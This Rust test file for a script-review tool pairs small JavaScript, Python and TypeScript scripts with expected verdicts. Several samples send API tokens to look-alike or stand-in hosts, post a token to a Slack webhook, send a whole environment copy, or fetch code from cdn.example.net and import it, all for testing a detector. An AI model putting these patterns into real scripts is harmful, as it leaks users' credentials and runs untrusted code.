//! Session 51's precision rows for Python, JavaScript and TypeScript scripts (issue 17).
//! - A token sent to its own service's documented host (Zenodo, the OSF, Contentful, Sanity,
//!   Apollo) is that service's use; the twins send it to a host that only looks like the
//!   documented one, to an unknown host, or post it in a message to a channel.
//! - A copy of the whole environment merged over a `.env` parser's result, read by one name
//!   (`env.CONTENTFUL_MANAGEMENT_TOKEN`), is that one variable even through a helper's
//!   parameter; the twin sends the whole copy.
//! - A name in a zone only the network's own DNS answers (`octopi.internal`, `nas.home.arpa`)
//!   is the developer's own machine: a token of no vendor in the credentials of a request there
//!   is the device's own key. The twins: a host that ends otherwise
//!   (`octopi.internal.example.net`), a private address or a `.local` name (whoever shares the
//!   link), and a vendor's token (`GITHUB_TOKEN`) sent there.
//! - `new URL(import.meta.url).pathname` is the script's own path, so a module of the
//!   project's build output joined to it is no name computed at run time; the twin writes a
//!   download to that module first.

use terraphim_script_review::{Language, Verdict};

use crate::rows;

use Language::{JavaScript as Js, Python as Py, TypeScript as Ts};
use Verdict::{Clean, Dangerous, Suspicious};

/// A JS sync of a deposition's metadata: `var` read from the environment, sent as a Bearer
/// token to `url`.
fn bearer_js(var: &str, url: &str) -> String {
    format!(
        "const TOKEN = process.env.{var};\nif (!TOKEN) throw new Error('{var} missing');\n\nasync function api(path, init = {{}}) {{\n  const res = await fetch(`{url}${{path}}`, {{\n    ...init,\n    headers: {{ Authorization: `Bearer ${{TOKEN}}`, 'Content-Type': 'application/json' }},\n  }});\n  if (!res.ok) throw new Error(`${{path}}: ${{res.status}}`);\n  return res.json();\n}}\n\nasync function main() {{\n  const drafts = await api('/deposit/depositions?status=draft');\n  console.log(`${{drafts.length}} draft(s)`);\n}}\n\nmain().catch((e) => {{\n  console.error(e.message);\n  process.exit(1);\n}});\n"
    )
}

/// A Python uploader of a release file with a session whose headers carry `var`.
fn session_py(var: &str, base: &str) -> String {
    format!(
        "import os\nimport sys\nfrom pathlib import Path\n\nimport requests\n\nBASE = \"{base}\"\n\n\ndef main() -> int:\n    token = os.environ.get(\"{var}\")\n    if not token:\n        print(\"{var} is not set\", file=sys.stderr)\n        return 2\n    s = requests.Session()\n    s.headers[\"Authorization\"] = f\"Bearer {{token}}\"\n    r = s.get(f\"{{BASE}}/v2/users/me/nodes/\", timeout=30)\n    r.raise_for_status()\n    for node in r.json()[\"data\"]:\n        print(node[\"id\"], node[\"attributes\"][\"title\"])\n    return 0\n\n\nif __name__ == \"__main__\":\n    sys.exit(main())\n"
    )
}

#[test]
fn token_sent_to_its_own_services_documented_host_is_its_use() {
    rows(&[
        (
            Js,
            bearer_js("ZENODO_TOKEN", "https://zenodo.org/api"),
            Clean,
            "",
        ),
        (
            Js,
            bearer_js("ZENODO_TOKEN", "https://sandbox.zenodo.org/api"),
            Clean,
            "",
        ),
        (
            Js,
            bearer_js(
                "SANITY_API_TOKEN",
                "https://k3x9q2.api.sanity.io/v2023-08-01",
            ),
            Clean,
            "",
        ),
        (
            Js,
            bearer_js("APOLLO_KEY", "https://graphql.api.apollographql.io/api"),
            Clean,
            "",
        ),
        (Py, session_py("OSF_TOKEN", "https://api.osf.io"), Clean, ""),
        // A host that only looks like the documented one, and an unknown host.
        (
            Js,
            bearer_js("ZENODO_TOKEN", "https://zenodo.org.example.net/api"),
            Dangerous,
            "exfiltration",
        ),
        (
            Js,
            bearer_js("SANITY_API_TOKEN", "https://api.sanity.io.example.org"),
            Dangerous,
            "exfiltration",
        ),
        (
            Py,
            session_py("OSF_TOKEN", "https://osf.io.example.com"),
            Dangerous,
            "exfiltration",
        ),
        (
            Py,
            session_py("OSF_TOKEN", "https://files.example.net"),
            Dangerous,
            "exfiltration",
        ),
    ]);
}

#[test]
fn token_posted_in_a_message_stays_a_leak_at_any_host() {
    // The Zenodo token in the text of a chat message, not in the request's credentials.
    let posted = "const TOKEN = process.env.ZENODO_TOKEN;\n\nasync function main() {\n  await fetch('https://zenodo.org/api/deposit/depositions', { headers: { Authorization: `Bearer ${TOKEN}` } });\n  await fetch('https://hooks.slack.com/services/T000/B000/XXXX', {\n    method: 'POST',\n    body: JSON.stringify({ text: `zenodo token: ${TOKEN}` }),\n  });\n}\n\nmain();\n";
    rows(&[(Js, posted.to_owned(), Dangerous, "exfiltration")]);
}

/// A Contentful model differ whose settings merge the environment over the project's `.env`;
/// `use` is what the main function does with the merged settings.
fn merged_env_js(send: &str) -> String {
    format!(
        "const fs = require('node:fs');\nconst https = require('node:https');\n\nfunction readDotenv(file) {{\n  const env = {{}};\n  if (!fs.existsSync(file)) return env;\n  for (const line of fs.readFileSync(file, 'utf8').split('\\n')) {{\n    const m = line.match(/^\\s*([A-Z0-9_]+)\\s*=\\s*(.*)\\s*$/);\n    if (m) env[m[1]] = m[2];\n  }}\n  return env;\n}}\n\nfunction get(host, pathname, token) {{\n  return new Promise((resolve, reject) => {{\n    const req = https.request({{ host, path: pathname, method: 'GET', headers: {{ Authorization: `Bearer ${{token}}` }} }}, (res) => {{\n      let body = '';\n      res.on('data', (c) => (body += c));\n      res.on('end', () => resolve(JSON.parse(body)));\n    }});\n    req.on('error', reject);\n    req.end();\n  }});\n}}\n\nasync function main() {{\n  const env = {{ ...readDotenv('.env'), ...process.env }};\n  const space = env.CONTENTFUL_SPACE_ID;\n  {send}\n}}\n\nmain();\n"
    )
}

#[test]
fn one_name_of_the_environment_merged_over_the_dotenv_is_that_variable() {
    rows(&[
        (
            Js,
            merged_env_js(
                "const types = await get('api.contentful.com', `/spaces/${space}/content_types`, env.CONTENTFUL_MANAGEMENT_TOKEN);\n  console.log(types.items.length);",
            ),
            Clean,
            "",
        ),
        // The same token to a host of no service of its own.
        (
            Js,
            merged_env_js(
                "await get('cms-mirror.example.net', `/spaces/${space}`, env.CONTENTFUL_MANAGEMENT_TOKEN);",
            ),
            Dangerous,
            "exfiltration",
        ),
        // The whole merged copy sent, even to the service's own host.
        (
            Js,
            merged_env_js(
                "await get('api.contentful.com', `/spaces/${space}`, JSON.stringify(env));",
            ),
            Dangerous,
            "exfiltration",
        ),
    ]);
}

#[test]
fn a_member_of_a_copy_of_the_environment_is_no_read_of_its_own() {
    let child = |step: &str| {
        format!(
            "const {{ spawnSync }} = require('node:child_process');\n\nconst env = {{ ...process.env, NOMAD_ADDR: 'http://127.0.0.1:4646' }};\n{step}\nconst res = spawnSync('nomad', ['job', 'plan', 'deploy/web.nomad'], {{ env, encoding: 'utf8' }});\nconsole.log(res.stdout);\n"
        )
    };
    rows(&[
        // The token taken out of the child's environment: no use of it.
        (Js, child("delete env.NOMAD_TOKEN;"), Clean, ""),
        // The same member printed is the token printed.
        (
            Js,
            child("console.log(`token ${env.NOMAD_TOKEN}`);"),
            Dangerous,
            "exfiltration",
        ),
    ]);
}

/// A TypeScript G-code uploader whose API key goes to `base` in an `X-Api-Key` header.
fn printer_ts(var: &str, base: &str) -> String {
    format!(
        "import {{ readFileSync }} from 'node:fs';\n\nconst KEY = process.env.{var} ?? '';\nconst BASE = '{base}';\n\nasync function upload(file: string): Promise<void> {{\n  const form = new FormData();\n  form.append('file', new Blob([readFileSync(file)]), 'part.gcode');\n  const res = await fetch(`${{BASE}}/api/files/local`, {{ method: 'POST', headers: {{ 'X-Api-Key': KEY }}, body: form }});\n  if (!res.ok) throw new Error(`upload: ${{res.status}}`);\n}}\n\nupload('build/gcode/part.gcode').catch((e: Error) => {{\n  console.error(e.message);\n  process.exit(1);\n}});\n"
    )
}

#[test]
fn device_key_sent_to_a_host_of_the_private_network_is_its_use() {
    rows(&[
        (
            Ts,
            printer_ts("OCTOPRINT_API_KEY", "http://octopi.internal"),
            Clean,
            "",
        ),
        (
            Ts,
            printer_ts("OCTOPRINT_API_KEY", "http://printer.home.arpa:5000"),
            Clean,
            "",
        ),
        // A private address or a multicast DNS name may be whoever shares the link.
        (
            Ts,
            printer_ts("OCTOPRINT_API_KEY", "http://192.168.1.40"),
            Suspicious,
            "secret-read",
        ),
        (
            Ts,
            printer_ts("OCTOPRINT_API_KEY", "http://octopi.local"),
            Dangerous,
            "exfiltration",
        ),
        // A name that only starts like one of the private network's.
        (
            Ts,
            printer_ts("OCTOPRINT_API_KEY", "http://octopi.internal.example.net"),
            Dangerous,
            "exfiltration",
        ),
        // A vendor's token belongs to its vendor's hosts alone.
        (
            Ts,
            printer_ts("GITHUB_TOKEN", "http://octopi.internal"),
            Suspicious,
            "secret-read",
        ),
    ]);
}

#[test]
fn build_output_module_beside_the_scripts_own_path_is_no_computed_name() {
    let import = |prelude: &str| {
        format!(
            "import path from 'node:path';\nimport {{ writeFileSync }} from 'node:fs';\n\nconst ROOT = path.resolve(path.dirname(new URL(import.meta.url).pathname), '..');\n\nasync function main(): Promise<void> {{\n{prelude}  const mod = (await import(path.join(ROOT, 'dist', 'codec.js'))) as {{ encode: (s: string) => string }};\n  console.log(mod.encode('hello'));\n}}\n\nmain();\n"
        )
    };
    rows(&[
        (Ts, import(""), Clean, ""),
        // The module written from a download first: the download runs.
        (
            Ts,
            import(
                "  const res = await fetch('https://cdn.example.net/codec.js');\n  writeFileSync(path.join(ROOT, 'dist', 'codec.js'), await res.text());\n",
            ),
            Dangerous,
            "source-poisoning",
        ),
    ]);
    // A name the command line gives stays computed.
    rows(&[(
        Ts,
        "import path from 'node:path';\n\nconst mod = await import(path.join(process.argv[2], 'codec.js'));\nconsole.log(mod);\n".to_owned(),
        Suspicious,
        "obfuscated-execution",
    )]);
}

/// A broker bridge whose settings dictionary gets the password from the environment under
/// its own key; `shown` is what the warning prints.
fn broker_py(shown: &str) -> String {
    format!(
        "import logging\nimport os\n\nlog = logging.getLogger(\"bridge\")\n\n\ndef load_conf():\n    conf = {{\"host\": \"localhost\", \"port\": 1883, \"password\": None}}\n    conf[\"password\"] = os.environ.get(\"MQTT_PASSWORD\")\n    return conf\n\n\nconf = load_conf()\nif conf[\"host\"] not in (\"localhost\", \"127.0.0.1\"):\n    log.error(\"broker %s is not local\", {shown})\n"
    )
}

#[test]
fn a_member_named_beside_a_stored_password_holds_its_own_data() {
    // The host printed: the password read stays (suspicious), nothing leaks.
    let host = crate::review(Py, &broker_py("conf[\"host\"]"));
    assert_eq!(host.verdict, Suspicious, "{host:#?}");
    assert!(
        host.findings.iter().all(|f| f.rule == "secret-read"),
        "{host:#?}"
    );
    // The password member, or the whole dictionary, printed is a leak.
    rows(&[
        (
            Py,
            broker_py("conf[\"password\"]"),
            Dangerous,
            "exfiltration",
        ),
        (Py, broker_py("conf"), Dangerous, "exfiltration"),
    ]);
}

#[test]
fn the_public_half_of_a_key_pair_is_no_secret() {
    let printed = |var: &str| {
        format!("const key = process.env.{var};\nconsole.log(`verifying with ${{key}}`);\n")
    };
    rows(&[
        (Js, printed("DISCORD_PUBLIC_KEY"), Clean, ""),
        (Js, printed("VAPID_PUBLIC_KEY"), Clean, ""),
        // The private half and the bot token stay secrets.
        (Js, printed("VAPID_PRIVATE_KEY"), Dangerous, "exfiltration"),
        (Js, printed("DISCORD_BOT_TOKEN"), Dangerous, "exfiltration"),
    ]);
}
